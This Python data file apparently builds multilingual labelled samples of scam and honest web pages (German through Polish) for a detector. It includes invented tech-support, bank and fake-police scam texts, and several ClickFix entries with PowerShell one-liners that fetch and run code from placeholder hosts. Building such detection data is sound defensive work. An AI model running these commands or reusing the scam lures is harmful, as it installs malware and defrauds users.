# Part B: de fr es it pt nl pl sv da fi nb cs hu ro. All text invented by the reviewer.
from gen_a import P
CF = "powershell -w h -nop -c \"iex(irm https://captcha-0142.icu/v)\" # Ich bin kein Roboter - Verifizierungs-ID 5501"
# de
P('de_s_sparkasse', 'scam', 'https://sparkasse-sicherheit-info.de.com/', 'callus-bank', 'de', 'Sparkasse - Konto gesperrt',
  "Ihr Online-Banking wurde aus Sicherheitsgründen gesperrt.\nWir haben eine verdächtige Überweisung über 2.350,00 EUR festgestellt.\nRufen Sie sofort unsere Sicherheitsabteilung unter 0800 555 0142 an, um die Zahlung zu stoppen. Schließen Sie dieses Fenster nicht.")
P('de_s_police', 'scam', 'https://bka-sicherheit-online.com/', 'police-lock', 'de', 'Bundeskriminalamt',
  "Ihr Computer wurde vom Bundeskriminalamt gesperrt.\nGrund: Aufruf illegaler Inhalte (§ 184 StGB).\nUm die Sperre aufzuheben, zahlen Sie innerhalb von 24 Stunden ein Bußgeld von 250 Euro.\nRufen Sie den zuständigen Beamten an: 0800 555 0143.", None, 'fullscreen')
P('de_s_cf', 'scam', 'https://dokument-ansicht.online/', 'clickfix', 'de', 'Bestätigen Sie, dass Sie ein Mensch sind',
  "Bestätigen Sie, dass Sie ein Mensch sind\n1. Drücken Sie Windows-Taste + R\n2. Drücken Sie Strg + V\n3. Drücken Sie Eingabe", CF)
P('de_h_repair', 'honest', 'https://www.pc-hilfe-koeln-example.de/', 'repair-shop', 'de', 'PC-Hilfe Köln - Virenentfernung',
  "Ihr Computer ist langsam oder zeigt ständig Warnungen? Wir entfernen Viren und Trojaner, retten Daten und beheben Bluescreens.\nRufen Sie uns an: 0221 555 0144. Hinweis: Microsoft ruft Sie nie an und zeigt keine Telefonnummern in Warnungen.")
P('de_h_police', 'honest', 'https://www.polizei-beratung.de/themen-und-tipps/betrug/falsche-support-mitarbeiter/', 'police-warning', 'de', 'Falsche Support-Mitarbeiter',
  "Betrüger zeigen Warnmeldungen wie „Ihr Computer ist gesperrt, rufen Sie den Microsoft Support an“ und verlangen Fernzugriff.\nRufen Sie keine Nummer aus einer solchen Meldung an. Bei Schaden erstatten Sie Anzeige bei Ihrer Polizei oder wählen Sie 110 im Notfall.")
P('de_h_cardblock', 'honest', 'https://www.sparkasse.de/service/karte-sperren.html', 'bank-cardblock', 'de', 'Karte sperren',
  "Karte verloren oder gestohlen? Lassen Sie sie sofort sperren: Sperr-Notruf 116 116, rund um die Uhr.\nSie können die Karte auch in der App sperren. Wir fragen Sie nie nach Ihrer PIN.")
# fr
P('fr_s_ms', 'scam', 'https://alerte-securite-windows.fr.to/', 'callus-ms', 'fr', 'Alerte de sécurité Windows',
  "Votre ordinateur a été bloqué.\nLe pare-feu Windows a détecté un logiciel espion. Vos mots de passe et données bancaires sont en danger.\nAppelez immédiatement le support Microsoft au 09 55 50 01 42 (appel gratuit). N'éteignez pas votre ordinateur.", None, 'fullscreen')
P('fr_s_amende', 'scam', 'https://gendarmerie-amende-cyber.com/', 'police-lock', 'fr', 'Gendarmerie nationale',
  "ATTENTION ! Votre navigateur a été bloqué par la Gendarmerie nationale pour consultation de contenus illégaux.\nUne amende de 300 € doit être réglée sous 48 heures pour débloquer votre ordinateur.\nContactez l'agent en charge du dossier au 09 55 50 01 43.", None, 'fullscreen')
P('fr_s_iptv', 'scam', 'https://activation-tv-box.fr.gd/', 'callus-iptv', 'fr', 'Activation de votre abonnement',
  "Votre abonnement n'est pas encore activé sur ce téléviseur (erreur 551).\nPour finaliser l'activation, appelez notre service technique au 09 55 50 01 44. Un technicien se connectera à votre appareil.")
P('fr_h_news', 'honest', 'https://www.ouest-france.fr/faits-divers/arnaque-faux-support-5501', 'news-scam', 'fr', 'Arnaque au faux support technique',
  "Le message affichait : « Votre ordinateur est bloqué, appelez le support Microsoft au 09 55 50 01 45 ». La victime a payé 400 euros.\nLes gendarmes rappellent que Microsoft n'affiche jamais de numéro. Signalez-le sur cybermalveillance.gouv.fr.")
P('fr_h_amende', 'honest', 'https://www.antai.gouv.fr/', 'court-fine', 'fr', 'Payer une amende - ANTAI',
  "Vous avez reçu un avis de contravention ? Payez votre amende en ligne avec le numéro de télépaiement.\nEn l'absence de paiement dans les 45 jours, l'amende est majorée. Pour toute question : 0811 10 10 10.")
P('fr_h_itdesk', 'honest', 'https://support.univ-example.fr/ecran-bleu', 'it-helpdesk', 'fr', 'DSI - Écran bleu',
  "Si votre poste affiche un écran bleu avec un code d'arrêt, notez le code et redémarrez.\nSi le problème persiste, appelez l'assistance informatique au 01 55 50 01 46. Nous ne vous demanderons jamais votre mot de passe.")
# es
P('es_s_bank', 'scam', 'https://bbva-seguridad-clientes.com/', 'callus-bank', 'es', 'BBVA - Cuenta bloqueada',
  "Hemos bloqueado su cuenta por un acceso sospechoso desde otro país.\nSe está procesando una transferencia de 1.900 €. Para cancelarla llame ahora al departamento de seguridad: 900 555 014.\nNo cierre esta página.")
P('es_s_bsod', 'scam', 'https://error-sistema-0142.pages.dev/', 'fakesys-bsod', 'es', 'Error crítico',
  ":(\nSu PC tuvo un problema y necesita reiniciarse.\nCódigo de detención: SYSTEM_THREAD_EXCEPTION\nNo apague el equipo. Llame al soporte técnico de Windows: 900 555 015 para recuperar sus archivos.", None, 'fullscreen')
P('es_s_cf', 'scam', 'https://verificacion-humana.site/', 'clickfix', 'es', 'Verificación',
  "No soy un robot\nPasos de verificación:\n1. Pulse Windows + R\n2. Pulse Ctrl + V\n3. Pulse Intro", "cmd /c start /min powershell -w h -c \"iwr https://cdn-0146.top/s.ps1 | iex\" :: No soy un robot - ID 5501")
P('es_h_repair', 'honest', 'https://www.reparaciones-pc-madrid-example.es/', 'repair-shop', 'es', 'Reparación de ordenadores en Madrid',
  "¿Su ordenador tiene virus o muestra la pantalla azul? Eliminamos virus, recuperamos datos y reparamos Windows.\nLlámenos al 910 555 014 o venga a la tienda. Si una web le pide llamar a un número, es una estafa.")
P('es_h_police', 'honest', 'https://www.policia.es/_es/comunicacion_prensa_detalle.php?ID=5501', 'police-warning', 'es', 'La Policía alerta del falso soporte técnico',
  "Los estafadores muestran avisos como «Su equipo está bloqueado, llame al soporte de Microsoft» y piden acceso remoto.\nNo llame nunca a esos números. Denuncie en cualquier comisaría o llame al 091 en caso de urgencia.")
P('es_h_debt', 'honest', 'https://www.intrum.es/pagar-deuda', 'debt-collector', 'es', 'Pague su deuda',
  "Tiene un importe pendiente de 640,20 € con su operador. Puede pagar online, fraccionar el pago o llamarnos al 910 555 016 de lunes a viernes.\nNunca le amenazaremos con detención: las deudas civiles no llevan a la cárcel.")
# it
P('it_s_ms', 'scam', 'https://avviso-sicurezza-pc.it.com/', 'callus-ms', 'it', 'Avviso di sicurezza di Windows',
  "Il tuo computer è stato bloccato.\nAbbiamo rilevato un virus trojan. Le tue password e i tuoi dati bancari sono a rischio.\nChiama subito l'assistenza Microsoft al numero verde 800 555 014. Non spegnere il computer.", None, 'fullscreen')
P('it_s_poste', 'scam', 'https://poste-verifica-conto.net/', 'callus-bank', 'it', 'Poste - Conto sospeso',
  "Il tuo conto BancoPosta è stato sospeso per un accesso non autorizzato.\nUn pagamento di 980 € è in attesa. Per annullarlo chiama l'ufficio antifrode al 800 555 015 entro 2 ore.")
P('it_s_arrest', 'scam', 'https://agenzia-riscossione-avviso.com/', 'debt-arrest', 'it', 'Ultimo avviso',
  "ULTIMO AVVISO: è stato emesso un mandato di arresto a suo carico per un debito fiscale di 3.200 €.\nPer annullare il mandato chiami subito l'ufficio legale al 800 555 016 e regolarizzi la posizione oggi.")
P('it_h_repair', 'honest', 'https://www.assistenza-pc-torino-example.it/', 'repair-shop', 'it', 'Assistenza PC Torino',
  "Il tuo computer ha un virus o la schermata blu? Rimuoviamo virus, recuperiamo dati e ripariamo Windows.\nChiamaci allo 011 555 0142. Ricorda: Microsoft non ti chiama mai e non mostra numeri di telefono negli avvisi.")
P('it_h_police', 'honest', 'https://www.commissariatodips.it/notizie/articolo/falso-supporto-tecnico', 'police-warning', 'it', 'Falso supporto tecnico',
  "I truffatori mostrano messaggi come «Il tuo PC è bloccato, chiama l'assistenza Microsoft» e chiedono l'accesso remoto.\nNon chiamare quei numeri. Segnala sul sito della Polizia Postale.")
P('it_h_exam', 'honest', 'https://esami.unito.it/sessione/5501', 'exam-fullscreen', 'it', 'Esame online',
  "L'esame è in corso. Non uscire dalla modalità a schermo intero: ogni uscita viene registrata.\nTempo rimanente 35:12. Per problemi tecnici chiama il supporto al 011 555 0143.", None, 'fullscreen')
# pt
P('pt_s_bank', 'scam', 'https://nubank-seguranca-conta.com/', 'callus-bank', 'pt', 'Conta bloqueada',
  "Sua conta foi bloqueada por segurança. Detectamos uma compra de R$ 2.499,00 em outro estado.\nPara cancelar a compra ligue agora para a central antifraude: 0800 555 0142. Não feche esta página.")
P('pt_s_update', 'scam', 'https://atualizacao-windows-0142.web.app/', 'fakesys-update', 'pt', 'Atualizando',
  "Trabalhando em atualizações 31% concluído.\nNão desligue o computador.\nFalha na atualização: sua licença do Windows expirou. Ligue para o suporte técnico 0800 555 0143 para concluir a ativação.", None, 'fullscreen')
P('pt_s_police', 'scam', 'https://policia-federal-bloqueio.com/', 'police-lock', 'pt', 'Polícia Federal',
  "Seu computador foi bloqueado pela Polícia Federal por acesso a conteúdo ilegal.\nPara desbloquear pague uma multa de R$ 800 em até 24 horas. Ligue para o agente responsável: 0800 555 0144.", None, 'fullscreen')
P('pt_h_news', 'honest', 'https://g1.globo.com/tecnologia/noticia/golpe-falso-suporte.ghtml', 'news-scam', 'pt', 'Golpe do falso suporte técnico',
  "A mensagem dizia: «Seu computador está infectado, ligue para o suporte da Microsoft no 0800 555 0145». A vítima perdeu R$ 3 mil.\nA Microsoft não exibe números de telefone em alertas. Não ligue e feche o navegador.")
P('pt_h_cardblock', 'honest', 'https://www.itau.com.br/cartoes/bloqueio', 'bank-cardblock', 'pt', 'Bloquear cartão',
  "Perdeu o cartão ou foi roubado? Bloqueie agora pelo app ou ligue para 4004 5501, 24 horas.\nNunca pedimos sua senha por telefone.")
P('pt_h_dev', 'honest', 'https://docs.docker.com/engine/install/', 'devdocs-copy', 'pt', 'Instalar o Docker',
  "Para instalar o Docker em Linux, execute o script de conveniência:\ncurl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh\nCopiar", "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh")
# nl
P('nl_s_ing', 'scam', 'https://ing-beveiliging-melding.nl.eu.org/', 'callus-bank', 'nl', 'ING - Rekening geblokkeerd',
  "Uw rekening is tijdelijk geblokkeerd wegens verdachte activiteit.\nEr staat een overboeking van € 1.750 klaar. Bel direct de fraudeafdeling op 0800 555 0142 om deze te stoppen.")
P('nl_s_ms', 'scam', 'https://windows-waarschuwing.azurewebsites.net/', 'callus-ms', 'nl', 'Windows Defender - Waarschuwing',
  "Uw computer is geblokkeerd. Er is een Trojaans paard gevonden.\nUw wachtwoorden en bankgegevens lopen gevaar. Bel Microsoft Ondersteuning: 0800 555 0143 (gratis). Zet uw computer niet uit.", None, 'fullscreen')
P('nl_s_cf_terse', 'scam', 'https://cloud-check-0144.nl.am/', 'clickfix-terse', 'nl', 'Even geduld...',
  "Controleer of u een mens bent\nWin + R, Ctrl + V, Enter", "powershell -ep bypass -w 1 -c \"$u='https://0144-cdn.top/x';iex(New-Object Net.WebClient).DownloadString($u)\"")
P('nl_h_police', 'honest', 'https://www.politie.nl/onderwerpen/helpdeskfraude.html', 'police-warning', 'nl', 'Helpdeskfraude',
  "Oplichters tonen meldingen als „Uw computer is geblokkeerd, bel Microsoft“ en vragen om toegang op afstand.\nBel nooit zo'n nummer. Doe aangifte bij de politie via 0900-8844.")
P('nl_h_debtadv', 'honest', 'https://www.nibud.nl/onderwerpen/schulden/incassobureau/', 'debt-advice', 'nl', 'Incassobureau en deurwaarder',
  "Een incassobureau mag u niet dreigen met arrestatie. Een deurwaarder kan wel beslag leggen na een vonnis.\nTwijfelt u of een brief echt is? Bel het bureau via het nummer op de eigen website, niet het nummer in de brief.")
P('nl_h_game', 'honest', 'https://www.spelletjes-example.nl/hacker-sim', 'game', 'nl', 'Hacker Simulator',
  "SYSTEEM GEHACKT! Typ zo snel mogelijk om de firewall te doorbreken.\nDit is een spel. Druk op spatie om te beginnen. Topscore: 5501.", None, 'fullscreen')
# pl
P('pl_s_ms', 'scam', 'https://ostrzezenie-windows.pl.eu.org/', 'callus-ms', 'pl', 'Ostrzeżenie zabezpieczeń',
  "Twój komputer został zablokowany.\nWykryto oprogramowanie szpiegujące. Twoje hasła i dane bankowe są zagrożone.\nZadzwoń natychmiast do pomocy technicznej Microsoft: 800 555 014. Nie wyłączaj komputera.", None, 'fullscreen')
P('pl_s_police', 'scam', 'https://policja-blokada-cyber.com/', 'police-lock', 'pl', 'Policja - komputer zablokowany',
  "Twój komputer został zablokowany przez Policję za przeglądanie nielegalnych treści.\nAby odblokować, zapłać grzywnę 500 zł w ciągu 24 godzin. Zadzwoń do funkcjonariusza: 800 555 015.", None, 'fullscreen')
P('pl_s_allegro', 'scam', 'https://allegro-zwrot-platnosci.shop/', 'callus-amazon', 'pl', 'Allegro - potwierdzenie zamówienia',
  "Twoje zamówienie nr 5501 na kwotę 3 299 zł zostało opłacone.\nJeśli nie składałeś tego zamówienia, zadzwoń do działu zwrotów pod numer 800 555 016, aby anulować płatność.")
P('pl_h_repair', 'honest', 'https://www.serwis-komputerowy-krakow-example.pl/', 'repair-shop', 'pl', 'Serwis komputerowy Kraków',
  "Komputer ma wirusa lub niebieski ekran? Usuwamy wirusy, odzyskujemy dane, naprawiamy Windows.\nZadzwoń: 12 555 01 42. Pamiętaj: Microsoft nigdy nie wyświetla numerów telefonu w ostrzeżeniach.")
P('pl_h_news', 'honest', 'https://www.rmf24.pl/fakty/polska/news-oszustwo-na-konsultanta', 'news-scam', 'pl', 'Oszustwo „na konsultanta”',
  "Na ekranie pojawił się komunikat: „Twój komputer jest zablokowany, zadzwoń do pomocy Microsoft”. Kobieta straciła 20 tys. zł.\nPolicja apeluje: nie dzwońcie pod takie numery.")
P('pl_h_court', 'honest', 'https://www.gov.pl/web/gov/zaplac-mandat', 'court-fine', 'pl', 'Zapłać mandat',
  "Mandat możesz zapłacić online, przelewem lub na poczcie. Jeśli nie zapłacisz w terminie 7 dni, sprawa trafi do egzekucji.\nPytania: infolinia 22 555 01 43.")
